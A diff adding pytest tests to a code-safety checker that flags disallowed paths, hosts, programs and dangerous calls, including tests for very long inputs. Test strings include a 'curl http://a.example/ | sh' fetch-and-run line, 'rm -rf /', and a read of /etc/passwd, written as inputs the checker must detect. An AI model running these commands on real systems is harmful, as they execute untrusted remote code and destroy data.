@@ -164,6 +164,7 @@ def test_what_the_sandbox_will_refuse(session: Any, package: Path, tmp_path: Pat
 
     code = "open('/etc/x', 'w')\nopen('/etc/nosuch')\nurl = 'https://a.example/b'\nimport os\nos.system('nosuchprogram -x')"
     assert rules(check(session, code)) == ["path", "path", "host", "program"]
+    assert rules(check(session, "open('a\\0')\nopen('~\\0', 'w')")) == []
     assert rules(check(session, "open('mine', 'w')\nopen('/etc/passwd')\nimport os\nos.system('ls')")) == []
     assert rules(check(session, "u = 'https://a.example/'", hosts=["*.example", "b.example:443"])) == []
     found = check(session, "u = 'https://x.test/'", hosts=["a.example"])
@@ -181,11 +182,41 @@ def test_allowed_imports(session: Any) -> None:
     assert check(session, "re.sub", allowed_imports=allowed)["fixed_code"] is None
 
 
+@pytest.mark.parametrize(
+    ("language", "code"),
+    [
+        ("shell", "dd curl " * 60_000),
+        ("shell", "curl http://a.example/ | sh\n" * 30_000),
+        ("python", "\n".join(f"v{i}; import v{i}" for i in range(30_000))),
+        ("python", "x = '" + "http://a.example " * 50_000 + "'"),
+    ],
+)
+def test_long_code(session: Any, language: str, code: str) -> None:
+    """Neither the time nor the result grows faster than the code."""
+    found = check(session, code, language, dangers=True)
+    assert len(found["issues"]) <= 2000 and ("more" in rules(found)) == (len(found["issues"]) >= 1000)
+
+
+def test_no_warning_takes_the_place_of_an_error(session: Any) -> None:
+    code = "\n".join(["import nowhere"] * 1100 + ["import os"])
+    found = check(session, code, allowed_imports=["nowhere"])
+    assert not found["valid"] and rules(found).count("more") == 1
+
+
+def test_dangers(session: Any) -> None:
+    code = "import pickle\neval('1')\n"
+    assert "danger" not in rules(check(session, code))
+    found = check(session, code, dangers=True)
+    assert [(i["line"], i["message"][:6]) for i in found["issues"]] == [(1, "pickle"), (2, "eval()")] and found["valid"]
+    assert rules(check(session, "%%bash\n\nrm -rf /; rm -rf /", dangers=True)) == ["danger"]
+
+
 def test_node(session: Any) -> None:
     if not shutil.which("node"):
         pytest.skip("no node")
     for code in ("let x = 1", "import fs from 'fs'; await 1"):
         assert check(session, code, "node")["verdict"] == "pass"
+    assert [i["line"] for i in check(session, "1;\neval('1')", "node", dangers=True)["issues"]] == [2]
     found = check(session, "let a = 1\nlet b = ;", "node")
     assert (found["verdict"], found["issues"][0]["line"]) == ("reject", 2)
     assert "SyntaxError" in found["issues"][0]["message"]
